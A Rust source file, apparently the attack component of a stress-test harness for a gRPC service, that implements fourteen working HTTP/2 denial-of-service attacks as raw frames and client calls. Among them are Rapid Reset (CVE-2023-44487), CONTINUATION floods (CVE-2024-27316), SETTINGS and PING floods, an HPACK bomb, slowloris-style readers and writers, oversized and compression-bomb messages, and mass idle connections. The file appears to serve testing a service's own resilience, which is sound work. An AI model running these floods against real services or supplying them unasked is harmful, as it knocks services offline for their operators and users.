//! What a caller may do to a service that it wishes ill. Each attack goes on until its time is over, and opens a new
//! connection whenever the service has closed the one it had.

use std::{
    net::SocketAddr,
    time::{Duration, Instant},
};

use super::frame::frame;
use bytes::Bytes;
use h2::{Reason, client};
use http::{Request, uri::PathAndQuery};
use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::TcpStream,
    time::{sleep, timeout_at},
};

/// The first words of HTTP/2, RFC 9113 section 3.4, and an empty SETTINGS frame.
const GREETING: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00";

/// An attack.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Attack {
    /// Calls without end, more of them than a connection may have, without reading an answer.
    StreamFlood,
    /// Calls that are taken back as soon as they are made: CVE-2023-44487.
    RapidReset,
    /// Headers that never end: CVE-2024-27316 and its kin.
    ContinuationFlood,
    /// SETTINGS frames without end, each of which the service must acknowledge.
    SettingsFlood,
    /// PING frames without end.
    PingFlood,
    /// Callers that ask for much and take none of it.
    SlowReaders,
    /// Callers that follow the book from its beginning and read nothing of it.
    SilentWatchers,
    /// Callers that send their request byte by byte.
    SlowWriters,
    /// Callers that send almost all of the largest message and then wait.
    AlmostDone,
    /// Headers beyond every bound, and headers that unpack to much more than they are: a bomb in HPACK.
    HugeHeaders,
    /// Messages beyond every bound.
    HugeMessages,
    /// Messages that say they are packed and unpack to much more.
    CompressionBombs,
    /// Messages that are no longer than they may be and hold a million others, each of which takes a kilobyte once unpacked.
    CrowdedMessages,
    /// A thousand connections that do nothing.
    IdleConnections,
}

impl Attack {
    pub const ALL: [Self; 14] = [
        Self::StreamFlood,
        Self::RapidReset,
        Self::ContinuationFlood,
        Self::SettingsFlood,
        Self::PingFlood,
        Self::SlowReaders,
        Self::SilentWatchers,
        Self::SlowWriters,
        Self::AlmostDone,
        Self::HugeHeaders,
        Self::HugeMessages,
        Self::CompressionBombs,
        Self::CrowdedMessages,
        Self::IdleConnections,
    ];

    /// How many connections take part.
    pub const fn connections(self) -> usize {
        match self {
            Self::IdleConnections => 1_000,
            Self::SlowReaders | Self::SilentWatchers | Self::SlowWriters | Self::AlmostDone => 16,
            _ => 4,
        }
    }

    /// Goes on until the time is over. What goes wrong with a connection is what was wanted.
    pub async fn run(self, address: SocketAddr, end: Instant) {
        let one = |number: usize| async move {
            let pace = Duration::from_millis(if self == Self::IdleConnections { 0 } else { 5 });
            while Instant::now() < end {
                let _ = timeout_at(end.into(), self.connection(address, number)).await;
                sleep(pace).await;
            }
        };
        let tasks: Vec<_> = (0..self.connections()).map(|number| tokio::spawn(one(number))).collect();
        for task in tasks {
            task.await.expect("an attacker keeps going");
        }
    }

    async fn connection(
        self,
        address: SocketAddr,
        number: usize,
    ) -> Result<(), Box<dyn std::error::Error + Send + Sync>> {
        match self {
            Self::ContinuationFlood => return continuations(address).await,
            Self::SettingsFlood => {
                return frames(address, b"\x00\x00\x06\x04\x00\x00\x00\x00\x00\x00\x04\x00\x00\xff\xff").await;
            }
            Self::PingFlood => return frames(address, b"\x00\x00\x08\x06\x00\x00\x00\x00\x00baybook!").await,
            Self::IdleConnections => {
                let mut stream = TcpStream::connect(address).await?;
                stream.write_all(GREETING).await?;
                let mut dump = [0; 1 << 10];
                // Reads and never answers, not even a ping.
                while stream.read(&mut dump).await? != 0 {}
                return Ok(());
            }
            Self::StreamFlood => {
                return calls(address, |id, flood| {
                    flood.extend(frame(0x1, 0x4, id, &headers(GET, id == 1)));
                    flood.extend(frame(0x0, 0x1, id, &message(b"\x0a\x11bolts/m12-109-40x")));
                })
                .await;
            }
            Self::RapidReset => {
                return calls(address, |id, flood| {
                    flood.extend(frame(0x1, 0x4, id, &headers(GET, id == 1)));
                    flood.extend(frame(0x3, 0x0, id, &u32::from(Reason::CANCEL).to_be_bytes()));
                })
                .await;
            }
            Self::HugeHeaders if number.is_multiple_of(2) => return hpack_bomb(address).await,
            Self::HugeHeaders => return huge_headers(address).await,
            _ => {}
        }
        let window = if matches!(self, Self::SlowReaders | Self::SilentWatchers) { 0 } else { 65_535 };
        let stream = TcpStream::connect(address).await?;
        let mut builder = client::Builder::new();
        builder.initial_window_size(window).max_concurrent_reset_streams(10_000).max_send_buffer_size(64 << 20);
        let (sender, connection) = builder.handshake::<_, Bytes>(stream).await?;
        let driving = tokio::spawn(connection);
        let done = self.streams(sender).await;
        driving.abort();
        done
    }

    async fn streams(
        self,
        mut sender: client::SendRequest<Bytes>,
    ) -> Result<(), Box<dyn std::error::Error + Send + Sync>> {
        let mut held = Vec::new();
        loop {
            sender = sender.ready().await?;
            match self {
                Self::SlowReaders => {
                    // A page of a thousand entries, and all of the book as a stream.
                    let (path, asked): (_, &[u8]) =
                        if held.len() % 2 == 0 { (LIST, b"\x10\xe8\x07") } else { (EXPORT, b"") };
                    let (response, mut body) = sender.send_request(request(path), false)?;
                    body.send_data(message(asked), true)?;
                    held.push((Some(response), body));
                    if held.len() >= 128 {
                        sleep(Duration::from_secs(60)).await;
                    }
                }
                Self::SilentWatchers => {
                    let (response, mut body) = sender.send_request(request(WATCH), false)?;
                    // With a snapshot of everything.
                    body.send_data(message(b"\x10\x01"), true)?;
                    held.push((Some(response), body));
                    if held.len() >= 64 {
                        sleep(Duration::from_secs(60)).await;
                    }
                }
                Self::SlowWriters => {
                    let (response, body) = sender.send_request(request(GET), false)?;
                    held.push((Some(response), body));
                    if held.len() >= 128 {
                        let slow = message(&[0x0a; 4 << 10]);
                        for at in 0..slow.len() {
                            for (_, body) in &mut held {
                                body.send_data(slow.slice(at..=at), false)?;
                            }
                            sleep(Duration::from_millis(20)).await;
                        }
                    }
                }
                Self::AlmostDone => {
                    let (response, mut body) = sender.send_request(request(PUT), false)?;
                    let whole = message(&vec![0x0a; (4 << 20) - 64]);
                    body.send_data(whole.slice(..whole.len() - 1), false)?;
                    held.push((Some(response), body));
                    if held.len() >= 16 {
                        sleep(Duration::from_secs(60)).await;
                    }
                }
                Self::HugeMessages => {
                    let (response, mut body) = sender.send_request(request(PUT), false)?;
                    // Says two gigabytes, and begins to send them.
                    let mut much = vec![0x41; 1 << 20];
                    much[..5].copy_from_slice(b"\x00\x7f\xff\xff\xff");
                    body.send_data(much.into(), false)?;
                    drop(response.await?);
                }
                Self::CrowdedMessages => {
                    // Numbered plans of two bytes, each with an empty plan; or empty entries.
                    let (path, one): (_, &[u8]) =
                        if held.len().is_multiple_of(2) { (CHECK, b"\x12\x02\x12\x00") } else { (PUT, b"\x0a\x00") };
                    let (response, mut body) = sender.send_request(request(path), false)?;
                    body.send_data(message(&one.repeat((4 << 20) / one.len() - 16)), true)?;
                    held.push((None, body));
                    drop(response.await?);
                }
                Self::CompressionBombs => {
                    let mut request = request(PUT);
                    request.headers_mut().insert("grpc-encoding", "gzip".parse()?);
                    let (response, mut body) = sender.send_request(request, false)?;
                    // One stored block of gzip repeated would do; the mark of a packed message is what counts here.
                    let mut packed = message(&[0x1f; 64 << 10]).to_vec();
                    packed[0] = 1;
                    body.send_data(packed.into(), true)?;
                    drop(response.await?);
                }
                _ => return Ok(()),
            }
            tokio::task::yield_now().await;
        }
    }
}

const GET: &str = "/baybook.v1.SpecBookService/GetEntry";
const PUT: &str = "/baybook.v1.SpecBookService/BatchPutEntries";
const CHECK: &str = "/baybook.v1.UpfitsService/CheckUpfits";
const LIST: &str = "/baybook.v1.SpecBookService/ListEntries";
const WATCH: &str = "/baybook.v1.SpecBookService/WatchBook";
const EXPORT: &str = "/baybook.v1.SpecBookService/ExportEntries";

fn request(path: &'static str) -> Request<()> {
    let mut request = Request::new(());
    *request.method_mut() = http::Method::POST;
    let mut uri = http::uri::Parts::default();
    uri.scheme = Some(http::uri::Scheme::HTTP);
    uri.authority = Some(http::uri::Authority::from_static("here"));
    uri.path_and_query = Some(PathAndQuery::from_static(path));
    *request.uri_mut() = http::Uri::from_parts(uri).expect("the parts fit");
    *request.version_mut() = http::Version::HTTP_2;
    let headers = request.headers_mut();
    headers.insert("content-type", http::HeaderValue::from_static("application/grpc"));
    headers.insert("te", http::HeaderValue::from_static("trailers"));
    request
}

/// A message of gRPC: a mark, a length, the bytes.
fn message(bytes: &[u8]) -> Bytes {
    let mut whole = vec![0];
    whole.extend(u32::try_from(bytes.len()).expect("it is short").to_be_bytes());
    whole.extend(bytes);
    whole.into()
}

/// The headers of a call: the first time in full, which puts them into the table of HPACK; then by their numbers there.
fn headers(path: &str, first: bool) -> Vec<u8> {
    if !first {
        return vec![0x83, 0x86, 0xc1, 0xc0, 0xbf, 0xbe];
    }
    let mut block = vec![0x83, 0x86];
    // :path, :authority, content-type and te, RFC 7541 section 6.2.1; the first three have names in the static table.
    for (name, value) in
        [(&[0x44][..], path), (&[0x41], "here"), (&[0x5f], "application/grpc"), (b"\x40\x02te", "trailers")]
    {
        block.extend(name);
        block.push(u8::try_from(value.len()).expect("it is short"));
        block.extend(value.as_bytes());
    }
    block
}

/// Makes calls for ever out of prepared frames, reading nothing.
async fn calls(
    address: SocketAddr,
    one: impl Fn(u32, &mut Vec<u8>),
) -> Result<(), Box<dyn std::error::Error + Send + Sync>> {
    let mut stream = TcpStream::connect(address).await?;
    stream.write_all(GREETING).await?;
    for first in (1_u32..).step_by(200) {
        let mut flood = Vec::new();
        for id in (first..first + 200).step_by(2) {
            one(id, &mut flood);
        }
        stream.write_all(&flood).await?;
        tokio::task::yield_now().await;
    }
    Ok(())
}

/// Sends one frame for ever, reading nothing.
async fn frames(address: SocketAddr, frame: &[u8]) -> Result<(), Box<dyn std::error::Error + Send + Sync>> {
    let mut stream = TcpStream::connect(address).await?;
    stream.write_all(GREETING).await?;
    let many = frame.repeat(500);
    loop {
        stream.write_all(&many).await?;
        tokio::task::yield_now().await;
    }
}

/// A HEADERS frame without END_HEADERS, and CONTINUATION frames after it without end.
async fn continuations(address: SocketAddr) -> Result<(), Box<dyn std::error::Error + Send + Sync>> {
    let mut stream = TcpStream::connect(address).await?;
    stream.write_all(GREETING).await?;
    // A literal field without indexing: the name x, the value y.
    let field: &[u8] = b"\x00\x01x\x01y";
    let block = field.repeat(3_000);
    stream.write_all(&frame(0x1, 0x0, 1, &block)).await?;
    let more = frame(0x9, 0x0, 1, &block);
    loop {
        stream.write_all(&more).await?;
        tokio::task::yield_now().await;
    }
}

/// Calls with 48 KiB of headers each, prepared: packing them costs whoever sends them more than reading them costs anybody.
async fn huge_headers(address: SocketAddr) -> Result<(), Box<dyn std::error::Error + Send + Sync>> {
    let mut stream = TcpStream::connect(address).await?;
    stream.write_all(GREETING).await?;
    let mut block = headers(GET, true);
    for number in 0..12 {
        // A literal field without indexing: a name of 9 octets, a value of 4,096 (length 127 + 3,969, as a varint).
        block.extend([0x00, 9]);
        block.extend(format!("x-much-{number:02}").as_bytes());
        block.extend([0x7f, 0x81, 0x1f]);
        block.extend([b'y'; 4 << 10]);
    }
    for id in (1_u32..).step_by(2) {
        let parts: Vec<_> = block.chunks(16 << 10).collect();
        let mut call = Vec::with_capacity(block.len() + 64);
        for (at, part) in parts.iter().enumerate() {
            // HEADERS first, which also end the stream, then CONTINUATION; the last one ends the headers.
            let kind = if at == 0 { 0x1 } else { 0x9 };
            let flags = u8::from(at == 0) | if at + 1 == parts.len() { 0x4 } else { 0 };
            call.extend(frame(kind, flags, id, part));
        }
        stream.write_all(&call).await?;
        tokio::task::yield_now().await;
    }
    Ok(())
}

/// One long field put into the table of HPACK, and then named thousands of times.
async fn hpack_bomb(address: SocketAddr) -> Result<(), Box<dyn std::error::Error + Send + Sync>> {
    let mut stream = TcpStream::connect(address).await?;
    stream.write_all(GREETING).await?;
    // A literal field with incremental indexing: the name x, a value of 3,900 octets (length 127 + 3,773, as a varint).
    let mut block = vec![0x40, 1, b'x', 0x7f, 0xbd, 0x1d];
    block.extend(vec![b'y'; 3_900]);
    // An indexed field: the first of the dynamic table.
    block.extend(vec![0xbe; 12_000]);
    for id in (1_u32..).step_by(2) {
        stream.write_all(&frame(0x1, 0x5, id, &block)).await?;
        tokio::task::yield_now().await;
    }
    Ok(())
}
